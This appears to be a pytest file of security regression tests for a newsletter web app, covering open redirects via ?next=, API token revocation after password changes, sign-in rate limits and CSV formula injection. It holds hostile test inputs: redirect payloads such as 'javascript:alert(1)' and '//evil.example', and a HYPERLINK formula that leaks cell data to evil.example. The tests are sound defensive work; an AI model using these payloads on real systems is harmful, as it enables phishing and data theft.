"""Findings of a security probe, each checked through the real web server (and the installed
command where a person would use it): ``?next=`` links, API tokens after a new password, the
sign-in rate limit, and spreadsheet formulas in CSV exports."""

import csv
import io
import re

import httpx
import pytest

from newsletter.accounts import create_api_token
from newsletter.db import transaction
from newsletter.subscribers import import_subscribers
from tests.cli import cli_env, ok, run_cli
from tests.conftest import make_settings
from tests.web.conftest import (
    PASSWORD,
    LiveServer,
    add_user,
    csrf_of,
    free_port,
    sign_in,
    start_server,
)

SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
NEW_PASSWORD = "a brand new passphrase"


def cancel_link(html: str) -> str:
    return re.search(r'<a href="([^"]*)">Cancel</a>', html).group(1)


def hidden_next(html: str) -> str:
    return re.search(r'<input type="hidden" name="next" value="([^"]*)">', html).group(1)


# ?next= ------------------------------------------------------------------------------------

OFF_SITE = ["javascript:alert(1)", "https://evil.example/", "//evil.example", "/\\evil.example",
            "/\t/evil.example", "\n//evil.example", "JaVaScRiPt:alert(1)", ""]


@SQLITE
@pytest.mark.parametrize("value", OFF_SITE)
def test_an_item_page_links_back_only_to_a_page_of_this_site(live_server, editor, value):
    added = editor.post("/admin/items/new", data={"url": "https://example.org/a", "headline": "A",
                                                  "language": "en", "csrf_token": editor.csrf})
    assert added.status_code == 303
    [item] = editor.get("/api/items").json()["items"]
    for path in ("/admin/items/new", f"/admin/items/{item['id']}"):
        page = editor.get(path, params={"next": value}).text
        assert cancel_link(page) == "/admin/items"
        assert hidden_next(page) == "/admin/items"
    login = live_server.client.get("/login", params={"next": value}).text
    assert hidden_next(login) == "/admin"


@SQLITE
def test_a_local_next_is_kept_and_followed(live_server, editor):
    page = editor.get("/admin/items/new", params={"next": "/admin/issues/7"}).text
    assert cancel_link(page) == hidden_next(page) == "/admin/issues/7"
    assert "Add to the issue" in page
    response = editor.post("/admin/items/new", data={"url": "https://example.org/a", "headline": "A",
                                                      "language": "en", "next": "/admin/issues/7",
                                                      "csrf_token": editor.csrf})
    assert response.headers["location"].startswith("/admin/issues/7?add=")
    response = editor.post("/admin/items/new", data={"url": "https://example.org/b", "headline": "B",
                                                      "language": "en", "next": "//evil.example/admin/",
                                                      "csrf_token": editor.csrf})
    assert response.headers["location"] == "/admin/items"
    client = httpx.Client(base_url=live_server.url)
    response = client.post("/login", data={"email": "ed@example.org", "password": PASSWORD, "next": "/admin/lists",
                                           "csrf_token": csrf_of(client.get("/login").text)})
    assert response.headers["location"] == "/admin/lists"


# API tokens after a new password -----------------------------------------------------------

def token_for(settings, user_id: int) -> str:
    with transaction(settings.database_url) as session:
        return create_api_token(session=session, user_id=user_id, name="intake")


def api_status(server: LiveServer, token: str) -> int:
    return server.client.get("/api/items", headers={"Authorization": f"Bearer {token}"}).status_code


def test_a_new_password_from_an_admin_revokes_the_users_api_tokens(live_server, admin):
    ed = add_user(live_server.settings, "ed@example.org")
    bo = add_user(live_server.settings, "bo@example.org")
    token, other = token_for(live_server.settings, ed), token_for(live_server.settings, bo)
    assert api_status(live_server, token) == 200
    response = admin.post(f"/admin/users/{ed}/password", data={"password": NEW_PASSWORD, "csrf_token": admin.csrf})
    assert response.status_code == 303
    assert api_status(live_server, token) == 401
    assert api_status(live_server, other) == 200  # nobody else's
    sign_in(live_server, "ed@example.org", NEW_PASSWORD).close()


def test_a_password_changed_from_the_command_line_revokes_the_users_api_tokens(live_server, tmp_path):
    ed = add_user(live_server.settings, "ed@example.org")
    token = token_for(live_server.settings, ed)
    assert api_status(live_server, token) == 200
    env = cli_env(tmp_path, database_url=live_server.settings.database_url)
    ok(run_cli("users", "password", "ed@example.org", "--password", NEW_PASSWORD, cwd=tmp_path, env=env))
    assert api_status(live_server, token) == 401
    fresh = ok(run_cli("users", "token", "ed@example.org", cwd=tmp_path, env=env)).strip()
    assert api_status(live_server, fresh) == 200  # a token made after the change works


# The sign-in rate limit --------------------------------------------------------------------

LIMIT = 3


@pytest.fixture
def strict_server(tmp_path, database_url):
    """The web app allowing LIMIT failed sign-ins a minute."""
    settings = make_settings(tmp_path, database_url=database_url, base_url=f"http://127.0.0.1:{free_port()}",
                             login_rate_limit=f"{LIMIT}/minute")
    for email in ("ed@example.org", "bo@example.org"):
        add_user(settings, email)
    server, thread = start_server(settings)
    yield settings.base_url
    server.should_exit = True
    thread.join(timeout=10)


def attempt(url: str, email: str, password: str, *, ip: str = "127.0.0.1") -> httpx.Response:
    """One sign-in from the local address ``ip`` (any 127.x.y.z reaches the server)."""
    with httpx.Client(base_url=url, transport=httpx.HTTPTransport(local_address=ip)) as client:
        token = csrf_of(client.get("/login").text)
        return client.post("/login", data={"email": email, "password": password, "csrf_token": token})


@SQLITE
def test_successful_sign_ins_do_not_use_up_the_limit(strict_server):
    assert [attempt(strict_server, "ed@example.org", PASSWORD).status_code for _ in range(3 * LIMIT)] == [303] * 9


def test_failures_for_one_account_lock_that_account_from_every_address(strict_server):
    for n in range(LIMIT):  # from a different address each time: no address reaches the limit
        assert attempt(strict_server, " ED@Example.org", "wrong password", ip=f"127.0.0.{10 + n}").status_code == 400
    locked = attempt(strict_server, "ed@example.org", PASSWORD, ip="127.0.0.20")
    assert locked.status_code == 429 and "Too many failed attempts" in locked.text
    assert attempt(strict_server, "bo@example.org", PASSWORD, ip="127.0.0.10").status_code == 303


@SQLITE
def test_failures_from_one_address_lock_that_address_for_every_account(strict_server):
    for email in ("ed@example.org", "ghost@example.org", "nobody@example.org"):
        assert attempt(strict_server, email, "wrong password", ip="127.0.0.30").status_code == 400
    assert attempt(strict_server, "bo@example.org", PASSWORD, ip="127.0.0.30").status_code == 429
    assert attempt(strict_server, "bo@example.org", PASSWORD, ip="127.0.0.31").status_code == 303


@SQLITE
def test_a_locked_account_that_does_not_exist_looks_like_one_that_does(strict_server):
    for n in range(LIMIT):
        for email in ("ed@example.org", "ghost@example.org"):
            attempt(strict_server, email, "wrong password", ip=f"127.0.0.{40 + n}")
    real, ghost = (attempt(strict_server, email, "wrong password", ip="127.0.0.50")
                   for email in ("ed@example.org", "ghost@example.org"))
    assert real.status_code == ghost.status_code == 429

    def shown(response, email):
        return response.text.replace(csrf_of(response.text), "").replace(email, "")
    assert shown(real, "ed@example.org") == shown(ghost, "ghost@example.org")


# Spreadsheet formulas in CSV exports ------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_the_web_export_neutralises_formulas_typed_on_the_public_form(live_server, admin, tmp_path):
    response = live_server.client.post("/subscribe/weekly", data={"email": "eve@example.org", "name": FORMULA})
    assert response.status_code == 200
    upload = tmp_path / "people.csv"
    upload.write_text("email,name,@cmd,city\nann@example.org,-2+3,+1+1,=1+1\nbo@example.org,Bo,plain,'-x\n",
                      encoding="utf-8")
    import_subscribers(database_url=live_server.settings.database_url, path=upload, list_name="weekly",
                       confirmed=True)
    for path in ("/admin/lists/weekly/export.csv", "/api/lists/weekly/export.csv"):
        rows = list(csv.reader(io.StringIO(admin.get(path, params={"status": "all"}).text)))
        assert rows[0][-2:] == ["'@cmd", "city"]
        by_email = {row[0]: row for row in rows[1:]}
        assert by_email["eve@example.org"][1] == "'" + FORMULA
        assert (by_email["ann@example.org"][1], by_email["ann@example.org"][-2:]) == ("'-2+3", ["'+1+1", "'=1+1"])
        assert by_email["bo@example.org"][-1] == "'-x"  # imported as "-x": the quote marked it as text
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
